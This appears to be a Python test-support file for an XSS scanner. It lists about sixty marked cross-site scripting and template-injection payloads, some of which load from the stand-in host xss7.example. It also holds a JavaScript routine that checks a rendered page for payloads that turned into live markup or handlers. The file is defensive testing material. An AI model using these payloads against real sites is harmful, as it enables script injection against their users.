"""Hostile texts, each with a mark, and the script that finds where a page took one of them for markup."""

MARK = "xss7"
"""Stands in every payload, so that it is found wherever it lands."""
PAYLOADS = (
    "<script>xss7()</script>",
    "<ScRiPt src=//xss7.example></ScRiPt>",
    "<script>alert('xss7')//",
    "</script><script>alert('xss7')</script>",
    "</title><script>alert('xss7')</script>",
    "</textarea><img src=x onerror=alert('xss7')>",
    "<img src=x onerror=alert('xss7')>",
    "<img src=https://xss7.example/x.png>",
    "<img/src=x/onerror=alert('xss7')>",
    "<svg onload=alert('xss7')>",
    "<svg><script>alert('xss7')</script></svg>",
    "<svg><use href=//xss7.example#a></svg>",
    "<svg><animate onbegin=alert('xss7') attributeName=x>",
    "<math><mi xlink:href=javascript:alert('xss7')>",
    "<iframe src=javascript:alert('xss7')>",
    "<iframe srcdoc=<script>alert('xss7')</script>>",
    "<object data=//xss7.example>",
    "<embed src=//xss7.example>",
    "<base href=//xss7.example/>",
    "<link rel=stylesheet href=//xss7.example/x.css>",
    "<meta http-equiv=refresh content=0;//xss7.example>",
    "<form action=//xss7.example><button>xss7",
    "<a href=javascript:alert('xss7')>xss7</a>",
    "<a href=//xss7.example autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert('xss7')>",
    "<body onload=alert('xss7')>",
    "<video><source onerror=alert('xss7')>",
    "<input autofocus onfocus=alert('xss7')>",
    "<template><img src=x onerror=alert('xss7')></template>",
    "<style>*{background:url(//xss7.example)}</style>",
    "<div style=background:url(//xss7.example)>xss7",
    "<b hx-get=//xss7.example hx-trigger=load>",
    "<b hx-on:load=alert('xss7')>xss7</b>",
    "<b hx-on::load=alert('xss7')>xss7</b>",
    "<b data-hx-get=/xss7 data-hx-trigger=load>",
    "<b hx-vals=js:{a:alert('xss7')} hx-get=/>",
    "<hx-partial hx-target=#main>xss7</hx-partial>",
    '" onmouseover=alert("xss7") x="',
    "' onmouseover=alert('xss7') x='",
    '"><img src=x onerror=alert("xss7")>',
    "'><img src=x onerror=alert('xss7')>",
    "` onload=alert('xss7')",
    "javascript:alert('xss7')",
    "{{ 7 * 7 }} xss7 {{ config }}",
    "{% include 'xss7' %}",
    "${alert('xss7')} #{xss7}",
    "&lt;script&gt;alert('xss7')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('xss7')&#62;",
    "\\u003cimg src=x onerror=alert('xss7')\\u003e",
    "<!-- xss7 --><!--><img src=x onerror=alert('xss7')>",
    "]]><img src=x onerror=alert('xss7')>",
    "{seat} {0} %s %(xss7)s",
    "<span data-region=public/vote>xss7</span>",
    "<b id=main>xss7</b><b id=words>xss7</b>",
    "+ADw-script+AD4-alert('xss7')+ADw-/script+AD4-",
    "＜script＞alert('xss7')＜/script＞",
    "[xss7](javascript:alert('xss7'))",
    "=HYPERLINK('https://xss7.example')",
)
BECAME_MARKUP = """
    () => {
        const found = [];
        const tell = (element, what) => found.push(`${what}: ${element.outerHTML.slice(0, 160)}`);
        const harmless = new Set(["value", "title", "aria-label", "placeholder", "alt", "content"]);
        for (const element of document.querySelectorAll("*")) {
            const name = element.localName;
            const own = [...element.childNodes].filter((node) => node.nodeType === 3);
            const speaks = own.some((node) => node.data.includes("xss7"));
            if (speaks && ["script", "style"].includes(name) && element.type !== "application/json")
                tell(element, "runs");
            if (["iframe", "object", "embed", "base", "math", "template", "hx-partial"].includes(name)
                && !element.closest("svg"))
                if (element.outerHTML.includes("xss7")) tell(element, "an element of user text");
            for (const attribute of element.attributes) {
                const called = attribute.name.toLowerCase();
                if (called.startsWith("on")) tell(element, "a handler");
                if (called.includes("hx-on")) tell(element, "a handler of htmx");
                if (!attribute.value.includes("xss7") || harmless.has(called)) continue;
                if (called.startsWith("data-") && !called.startsWith("data-hx")) continue;
                tell(element, `an attribute ${called}`);
            }
        }
        for (const comment = document.createNodeIterator(document, NodeFilter.SHOW_COMMENT); ;) {
            const next = comment.nextNode();
            if (!next) break;
            if (next.data.includes("xss7")) found.push(`a comment: ${next.data.slice(0, 80)}`);
        }
        return found;
    }
"""
